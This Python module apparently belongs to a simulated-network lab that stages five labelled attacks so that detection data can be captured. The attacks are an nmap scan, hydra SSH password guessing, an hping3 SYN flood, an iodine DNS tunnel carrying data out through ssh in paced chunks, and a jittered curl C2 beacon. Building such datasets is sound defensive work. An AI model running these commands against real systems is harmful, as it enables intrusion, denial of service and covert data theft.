"""The five attacks, each with the tool an attacker would use, at a time and from a host the seed picks."""

import random
import subprocess
import threading
import time
from dataclasses import dataclass, field

from topology import PEOPLE


@dataclass
class Attack:
    """What was done, and how its packets are told from the rest of the capture."""

    name: str
    technique: str
    host: object
    peer: str
    start: float  # seconds after the recording's begin
    port: int | None = None  # the peer's port, if the attack has one
    protocol: str = "tcp"
    marker: bytes | None = None  # bytes that every packet of the attack carries
    act: object = None
    began: float = field(default=0.0)
    ended: float = field(default=0.0)
    note: str = ""


class Attacks(threading.Thread):
    """Draws the plan from the seed, then carries it out, one thread for each attack."""

    def __init__(self, network, services, seed, stop, duration):
        super().__init__(name="attacks", daemon=True)
        self.network, self.services, self.stop, self.duration = network, services, stop, duration
        self.seed, self.dice = seed, random.Random(f"{seed}/attacks")
        self.plan = self._plan()

    def run(self):
        threads = [threading.Thread(target=self._carry_out, args=(a,), name=a.name, daemon=True) for a in self.plan]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def _carry_out(self, attack):
        if self.stop.wait(attack.start):
            return
        attack.began = time.time()
        attack.act(attack)
        attack.ended = time.time()
        print(f"  {attack.name}: {attack.note}", flush=True)

    def _plan(self):
        dice, net = self.dice, self.network
        inside = dice.sample(net.workstations(), len(PEOPLE))
        outside = [net["road1"], net["road2"]]
        dice.shuffle(outside)

        def attacker(share_inside):
            pool = inside if not outside or dice.random() < share_inside else outside
            return pool.pop()

        def target(host, names):
            return net[dice.choice([n for n in names if net[n] is not host])].address

        tunnel, beacon = inside.pop(), inside.pop()
        scan, guess, burst = attacker(0.7), attacker(0.4), attacker(0.5)
        flooded, port = dice.choice([("www", 80), ("www", 443), ("mail", 25), ("files", 22)])
        late = self.duration * dice.uniform(0.03, 0.15)
        parts = [("scan", 0), ("guess", 1), ("burst", 2), ("tunnel", 3)]
        dice.shuffle(parts)
        # Four equal parts of the time between 12 % and 94 %, one attack in each, anywhere in its first half.
        width = self.duration * 0.82 / 4
        start = {name: self.duration * 0.12 + slot * width + dice.uniform(0, 0.55) * width for slot, (name, _) in enumerate(parts)}
        return [
            Attack("port-scan", "T1046", scan, target(scan, ["www", "mail", "files"]), start["scan"], act=self.port_scan),
            Attack("ssh-password-guessing", "T1110.001", guess, target(guess, ["www", "mail", "files"]), start["guess"],
                   port=22, act=self.password_guessing),
            Attack("syn-burst", "T1499.001", burst, net[flooded].address, start["burst"], port=port, act=self.syn_burst),
            Attack("dns-tunnel", "T1071.004", tunnel, net.gateway, start["tunnel"], port=53, protocol="udp",
                   marker=wire_name(self.services.tunnel_domain), act=self.dns_tunnel),
            Attack("beacon", "T1071.001", beacon, net["c2"].address, late, act=self.beacon),
        ]

    def own_dice(self, attack):
        """Chance of its own for each attack: they run at the same time, in an order nobody decides."""
        return random.Random(f"{self.seed}/{attack.name}")

    def port_scan(self, attack):
        dice = self.own_dice(attack)
        kind = dice.choice(["-sS", "-sS", "-sT"])
        ports = dice.randrange(400, 900, 50)
        rate = dice.choice([40, 80, 150, 300])
        attack.note = f"nmap {kind}, {ports} ports, at most {rate} a second"
        attack.host.run("nmap", kind, "-n", "-Pn", "--top-ports", str(ports), "--max-rate", str(rate), attack.peer, timeout=180)

    def password_guessing(self, attack):
        dice = self.own_dice(attack)
        count = dice.randrange(20, 44)
        words = attack.host.folder / "words"
        words.write_text("".join(f"{dice.choice(['summer', 'office', 'Passw0rd', 'qwerty', 'letmein'])}{n}\n" for n in range(count)))
        tasks, wait = dice.choice([2, 3, 4]), dice.choice([1, 3, 4])
        attack.note = f"hydra, {count} passwords, {tasks} at a time, {wait} s between connections"
        # hydra keeps a file for resuming in its folder.
        done = attack.host.run("env", "-C", attack.host.folder, "hydra", "-I", "-l", dice.choice(PEOPLE), "-P", words,
                               "-t", str(tasks), "-w", str(wait), f"ssh://{attack.peer}", timeout=120)
        (attack.host.folder / "hydra.log").write_bytes(done.stdout + done.stderr)

    def syn_burst(self, attack):
        dice = self.own_dice(attack)
        count = dice.randrange(1000, 1500, 50)
        gap = dice.choice([800, 1000, 1300])
        attack.note = f"hping3, {count} SYNs, one each {gap} us"
        attack.host.run("hping3", "-q", "-S", "-p", str(attack.port), "-c", str(count), "-i", f"u{gap}", attack.peer, timeout=60)

    def dns_tunnel(self, attack):
        """iodine through the office's resolver; inside it, ssh copies a file out."""
        dice, host = self.own_dice(attack), attack.host
        kind = dice.choice(["NULL", "TXT", "TXT"])
        size = dice.randrange(7_000, 12_000)
        client = host.spawn("iodine", "-f", "-r", "-P", "seven-seas", "-T", kind, "-m", "220", self.services.tunnel_domain)
        try:
            for _ in range(120):
                if host.run("ping", "-c1", "-W1", "10.199.0.1", timeout=5).returncode == 0:
                    break
                if client.poll() is not None or self.stop.wait(0.5):
                    break
            copied = self.copy_out(host, dice, dice.randbytes(size))
            self.stop.wait(dice.uniform(2, 8))
            attack.note = f"iodine ({kind}), {copied}"
        finally:
            client.terminate()
            client.wait()

    def copy_out(self, host, dice, loot):
        """Sends the file through the tunnel in small pieces with pauses, as one who does not want to be heard."""
        ssh = host.spawn(
            "ssh", "-F", "none", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
            "-o", "LogLevel=ERROR", "-i", self.services.keys / "ana", "ana@10.199.0.1", "cat > loot; wc -c < loot >&2",
            stdin=subprocess.PIPE, log="loot.log")
        try:
            while loot and not self.stop.wait(dice.uniform(0.2, 3)):
                size = dice.randrange(300, 900)
                ssh.stdin.write(loot[:size])
                ssh.stdin.flush()
                loot = loot[size:]
            ssh.stdin.close()
            ssh.wait(timeout=30)
        except (BrokenPipeError, subprocess.TimeoutExpired):
            ssh.kill()
        return f"the far end received {(host.folder / 'loot.log').read_text().strip()} bytes"

    def beacon(self, attack):
        dice = self.own_dice(attack)
        period, jitter = dice.uniform(5, 10), dice.uniform(0.05, 0.10)
        scheme = dice.choice(["http", "http", "https"])
        attack.port = 80 if scheme == "http" else 443
        rounds, due = 0, time.monotonic()
        quit_at = due + self.duration * dice.uniform(0.6, 0.85)
        attack.note = f"{scheme} every {period:.1f} s"
        while time.monotonic() < quit_at:
            what = "task" if dice.random() < 0.06 else "check"
            attack.host.run("curl", "-s", "-o", "/dev/null", "--max-time", "8", "--cacert", self.services.authority, "-A", "Updater/1.4",
                            f"{scheme}://{self.services.beacon_domain}/{what}?id={attack.host.name}", timeout=10)
            rounds += 1
            due += period * dice.uniform(1 - jitter, 1 + jitter)
            if self.stop.wait(max(0.0, due - time.monotonic())):
                break
        attack.note = f"{scheme} every {period:.1f} s +-{100 * jitter:.0f} %, {rounds} times"


def wire_name(domain):
    """The domain as DNS writes it, without the final root label."""
    return b"".join(bytes([len(label)]) + label.encode() for label in domain.split("."))
